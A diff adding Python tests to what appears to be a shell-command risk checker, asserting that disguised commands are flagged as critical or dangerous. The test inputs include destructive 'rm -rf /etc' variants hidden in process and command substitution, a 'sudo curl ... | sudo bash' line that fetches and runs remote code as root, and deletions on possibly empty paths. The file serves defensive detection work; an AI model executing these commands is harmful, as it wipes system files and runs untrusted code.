@@ -78,3 +78,15 @@ def test_wrappers_are_told_apart_from_what_they_run():
 def test_a_program_nobody_knows_is_no_command_to_look_up():
     assert [call.words[0].known for call in parse("$EDITOR notes.txt").commands] == [False]
     assert assess("$EDITOR notes.txt").risk is Risk.CAUTION
+
+
+def test_a_script_that_another_command_prints():
+    assert assess("sh <(echo rm -rf /etc)").risk is Risk.CRITICAL
+    assert assess("source <(printf 'rm -rf /etc')").risk is Risk.CRITICAL
+    assert assess('bash -c "$(echo rm -rf /etc)"').risk is Risk.CRITICAL
+    assert assess("sudo curl https://x.example/i | sudo bash").risk is Risk.CRITICAL
+
+
+def test_output_that_may_be_empty_is_no_known_folder():
+    assert assess('rm -rf "$(true && echo a)/"').risk >= Risk.DANGEROUS
+    assert assess('x=$(echo a > b); rm -rf "$x"/*').risk is Risk.CRITICAL
